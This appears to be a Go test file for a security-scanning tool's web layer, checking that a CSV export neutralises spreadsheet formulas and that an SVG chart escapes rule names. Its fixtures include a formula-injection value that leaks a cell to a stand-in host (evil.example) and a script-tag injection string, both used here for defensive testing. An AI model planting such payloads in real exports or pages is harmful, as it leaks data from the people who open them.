package web

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"
)

func TestExceptionsCSVDefusesFormulas(t *testing.T) {
	var b bytes.Buffer
	rows := []Exception{{Repo: "acme/models", Where: "PR #1", Rule: "binary-executable", Path: "tools/helper",
		Reason: `=HYPERLINK("http://evil.example/"&A1)`, Who: "@alice", When: "2026-12-06", Expires: ""},
		{Repo: "acme/models", Rule: "*", Reason: "plain, with a comma", Who: "-1+1"}}
	if err := WriteExceptionsCSV(&b, rows); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 3 || recs[0][0] != "repository" {
		t.Fatalf("records: %q", recs)
	}
	if got := recs[1][5]; !strings.HasPrefix(got, "'=") {
		t.Errorf("a formula reason is exported as %q", got)
	}
	if recs[2][5] != "plain, with a comma" || recs[2][6] != "'-1+1" {
		t.Errorf("row 2: %q", recs[2])
	}
}

func TestFindingsChart(t *testing.T) {
	day := time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC)
	if got := string(FindingsChart(nil)); !strings.Contains(got, "No findings") {
		t.Errorf("empty chart: %s", got)
	}
	days := []DayCounts{{Day: day, Rules: map[string]int{"code-torch-load-unsafe": 3, `<script>x</script>`: 1}},
		{Day: day.AddDate(0, 0, 1), Rules: map[string]int{}}}
	for i := range 8 { // more rules than colours: the rest become "other"
		days[1].Rules[strings.Repeat("r", i+1)] = 1
	}
	svg := string(FindingsChart(days))
	if strings.Contains(svg, "<script>") || !strings.Contains(svg, "&lt;script&gt;") {
		t.Errorf("a rule name is not escaped:\n%s", svg)
	}
	if !strings.Contains(svg, "other") || strings.Count(svg, "<rect") < 3 || !strings.HasPrefix(svg, "<svg") {
		t.Errorf("chart:\n%s", svg)
	}
}
